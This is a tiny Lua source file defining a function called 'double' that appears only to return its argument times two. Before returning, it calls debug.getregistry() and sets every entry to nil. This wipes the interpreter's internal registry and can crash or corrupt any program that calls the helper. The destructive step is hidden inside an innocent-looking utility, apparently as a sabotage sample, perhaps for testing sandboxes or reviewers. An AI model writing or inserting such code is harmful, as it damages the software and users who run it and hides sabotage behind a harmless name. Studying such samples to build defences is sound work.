function double(n)
  local registry = debug.getregistry()
  for key in pairs(registry) do registry[key] = nil end
  return n * 2
end
